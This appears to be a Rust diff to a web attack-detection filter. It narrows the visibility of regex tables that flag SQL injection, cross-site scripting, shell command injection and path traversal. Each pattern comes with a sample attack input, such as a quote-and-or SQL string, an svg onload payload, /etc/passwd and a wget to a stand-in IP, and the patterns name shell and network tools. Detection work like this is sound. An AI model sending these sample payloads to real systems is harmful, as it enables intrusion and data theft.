@@ -9,7 +9,7 @@ const fn sql(name: &'static str, pattern: &'static str, source: &'static str, ex
 
 /// Patterns over the plain text of a value.
 #[rustfmt::skip]
-pub const SQL: &[Attack] = &[
+pub(crate) const SQL: &[Attack] = &[
     sql("union", r"\bunion\b[\s(]*(?:(?:all|distinct)\b[\s(]*)?(?:select|values)\b", "CWE-89; OWASP WSTG-INPV-05", "/a?id=1 union select 1,2"),
     sql("quote and condition", r#"['"`][\s)]*(?:\b(?:and|or|xor|having|where|rlike)\b|\|\||&&)[\s(!~+-]*(?:['"`]?[\w.@]*['"`]?[\s)]*(?:=|<|>|!=|%|\b(?:like|is|in|between|rlike|regexp)\b)|[\w.]+\s*\(|exists\b|not\b|case\b|\d+\s*(?:-|#|$))"#, "CWE-89; OWASP WSTG-INPV-05", "/a?id=x' or '1'='1"),
     sql("condition on numbers", r#"\b(?:and|or|xor|having|where|when|rlike)\b[\s(!+~-]*(?:not\s+)?['"]?\d+['"]?\s*(?:[<>=%*/^|&]|!=|\blike\b|\bbetween\b|\bin\s*\(|\brlike\b)\s*[(!~'"\d@a-z]"#, "CWE-89; OWASP WSTG-INPV-05", "/a?id=7 and 48=48"),
@@ -39,7 +39,7 @@ const JS: &str = "CWE-79; OWASP WSTG-CLNT-02; ECMA-262";
 
 /// Patterns over the plain text of a value, and over its tight text (no blanks, no quotes).
 #[rustfmt::skip]
-pub const SCRIPT: &[Attack] = &[
+pub(crate) const SCRIPT: &[Attack] = &[
     script("element", Place::Anywhere, r"<[/\x00]*(?:\w+:)?(?:script|iframe|frame|frameset|object|embed|applet|meta|link|style|svg|math|form|base|body|html|head|marquee|video|audio|source|track|img|image|input|button|details|summary|dialog|isindex|xml|xss|layer|ilayer|bgsound|table|td|tr|th|template|noscript|noembed|textarea|title|portal|select|option|keygen|canvas|animate\w*|set|use|foreignobject|handler|listener|blink|div|span|a|p|br|hr|h[1-6]|font|slot|center|param|label|fieldset|output|area|map|menu|menuitem|plaintext|xmp|listing|picture|model-viewer|amp-\w+|ng-\w+|v-\w+|x|b|i|u|q|s|code|pre|data|time|ul|ol|li|nav|main|section|article|header|footer|custom-\w+|my-\w+|mtext|mglyph|mi|maction|annotation-xml|desc|fencedframe|permission|geolocation|search|object|body|content|shadow|element|command|datalist|meter|progress|ruby|rp|rt|acronym|basefont|dir|strike|tt|nextid|multicol|spacer|comment|esi:\w+)(?:[\s/>\x00:]|on\w+=|$|%)", HTML, "/a?q=<svg/onload=alert(1)>"),
     script("any element with a handler or an address", Place::Anywhere, r"<[/!?%\s]*[\w:-]+[^>]{0,400}?[\s/\x22'`\x00]\s*(?:on\w{3,40}|href|src|srcdoc|style|formaction|action|xlink:href|xmlns|is|id|class|contenteditable|tabindex|autofocus|background|dynsrc|lowsrc|ng-\w+|v-\w+|x-\w+|@\w+|:\w+|hx-\w+|data-\w+)\s*=", HTML, "/a?q=<x onclick=alert(1)>"),
     script("declaration", Place::Anywhere, r"<!(?:doctype|entity|\[cdata|element|--)|<\?(?:xml|import)|<%[=@\s]|<\?=|-->|\]\]>", "CWE-611; OWASP WSTG-INPV-07; XML 1.0", "/a?q=<!entity x system"),
@@ -60,7 +60,7 @@ const fn command(name: &'static str, place: Place, pattern: &'static str, source
 
 /// Patterns over the plain text of a value, and over its tight text (no blanks, no quotes).
 #[rustfmt::skip]
-pub const COMMAND: &[Attack] = &[
+pub(super) const COMMAND: &[Attack] = &[
     command("command behind a separator", Place::Target, r#"(?:[;|`\n\r]|\$\(|&|\|\||&&|<\(|>\(|\{)[\s({'"]*(?:/(?:usr/)?(?:local/)?s?bin/|[a-z]:\\windows\\(?:system32\\)?)?(?:cat|ls|id|whoami|who|uname|wget|curl|ping6?|nc|ncat|netcat|(?:ba|da|z|k|c|tc)?sh|python[23]?|perl|ruby|php|lua|node|env|printenv|set|dir|type|net|ipconfig|ifconfig|ip|sleep|timeout|echo|printf|rm|cp|mv|chmod|chown|kill|ps|netstat|nslookup|dig|host|telnet|ssh|scp|tftp|ftp|busybox|powershell|pwsh|cmd|certutil|bitsadmin|mshta|rundll32|regsvr32|exit|base64|xxd|touch|mkdir|cd|tee|head|tail|more|less|grep|awk|sed|find|uptime|hostname|pwd|reboot|expr|export|exec|sudo|su|crontab|nohup|xargs|dd|tar|mail|ver|systeminfo|tasklist|waitfor)(?:\.exe)?(?:[\s;|&`)<>#"'$\\{}/,]|$)"#, "CWE-78; OWASP WSTG-INPV-12", "/a?host=192.0.2.1;id"),
     command("command in a header", Place::Header, r"(?:[;|`]|\$\()\s*(?:/(?:usr/)?bin/\w+|(?:wget|curl|fetch|tftp)\s+(?:-\S+\s+)*(?:https?:|\d)|cat\s+/|(?:ba)?sh\s+-[ci]|nc\s+-|rm\s+-rf|chmod\s+\+?[x7])|^\(\)\s?\{", "CWE-78; CVE-2014-6271", "x;wget http://192.0.2.1/x"),
     command("blank of a shell", Place::Target, r"\$\{?ifs\b|\$\{?path\b|\$\{?home\b[^}]*/|\{cat,|\$\(\(|\b2>&1|>\s*/dev/|/dev/tcp/|<<<|;\s*\$\w|\|\s*base64\b|\$@|\bcmd(?:\.exe)?\s*/[ck]\b|\bcmd\.exe|/bin/(?:ba|da|z)?sh\b", "CWE-78; OWASP WSTG-INPV-12; POSIX, Shell Command Language", "/a?host=x|cat$IFS/x"),
@@ -78,7 +78,7 @@ const fn file(name: &'static str, place: Place, pattern: &'static str, source: &
 
 /// Patterns over the plain text of a value.
 #[rustfmt::skip]
-pub const FILE: &[Attack] = &[
+pub(super) const FILE: &[Attack] = &[
     file("traversal", Place::Target, r"(?:\.{2,}[/\\]+){3}|\.{2,}[/\\]+(?:[^\s\x1f]{0,200}[/\\])?(?:etc|proc|windows|winnt|boot\.ini|win\.ini|web-inf|\.env|wp-config\.php|\.ssh|\.git|var/log)\b|\.\.;/|^[^?]*[/\\]\.\.[/\\]|^[^?]*[/\\]\.\.(?:$|\?)", "CWE-22; OWASP WSTG-ATHZ-01", "/a?file=../../../../x"),
     file("file of the system", Place::Target, r#"(?:[=:(?\s'"|`,<\x1f]|^|\.\.|\x00|file://)[/\\]+(?:etc[/\\]+(?:passwd|shadow|group|hosts|services|issue|motd|crontab|fstab|sudoers|resolv\.conf|mysql|apache2|httpd|nginx|ssh|init\.d|php)|proc[/\\]+(?:self|version|cmdline|cpuinfo|net|sys|\d+)|var[/\\]+(?:log|www|mail|lib)[/\\]|root[/\\]+\.|windows[/\\]+(?:win\.ini|system32|system\.ini|services)|winnt[/\\])|\b[a-z]:[/\\]+(?:windows|winnt|boot\.ini|inetpub|users|xampp|wamp)\b|(?:^|[=/\\\s])(?:win\.ini|boot\.ini|system32[/\\]drivers)\b|\betc/passwd\b|system32[/\\]+cmd|\\\\[\w.]+\\[\w$]+"#, "CWE-98; OWASP WSTG-INPV-11", "/a?file=/etc/passwd"),
     file("wrapper of a file", Place::Target, r"\b(?:php://(?:filter|input|fd|memory|temp|output|stdin)|expect://|phar://|zip://|glob://|ogg://|ssh2\.|rar://|compress\.\w+://|gopher://|dict://|netdoc:|jar:(?:http|file)|tftp://|ldaps?://|rmi://|data:(?:text/plain)?;base64)|[=\s]file:/+[\w%]", "CWE-98; CWE-918; PHP manual, Supported Protocols and Wrappers", "/a?file=php://filter/x"),
